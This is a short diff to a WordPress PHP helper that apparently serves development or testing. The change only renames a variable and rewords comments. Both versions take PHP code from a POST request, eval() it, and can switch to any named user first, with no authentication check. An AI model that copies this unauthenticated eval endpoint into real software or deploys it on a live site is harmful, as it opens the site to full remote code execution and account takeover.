@@ -1,10 +1,10 @@
 <?php
-/** Runs PHP in the site, as somebody: POST code and as (a login, or nothing); answers what it returns as JSON. */
+/** Runs PHP code in the site: POST code and as (a login, or empty); responds with what it returns, as JSON. */
 
-$asked = $_POST; // WordPress adds slashes
+$request = $_POST; // WordPress adds slashes to $_POST.
 require $_SERVER['DOCUMENT_ROOT'] . '/wp-load.php';
 require_once ABSPATH . 'wp-admin/includes/admin.php';
-if ( $asked['as'] ) {
-	wp_set_current_user( get_user_by( 'login', $asked['as'] )->ID );
+if ( $request['as'] ) {
+	wp_set_current_user( get_user_by( 'login', $request['as'] )->ID );
 }
-echo wp_json_encode( eval( $asked['code'] ) );
+echo wp_json_encode( eval( $request['code'] ) );
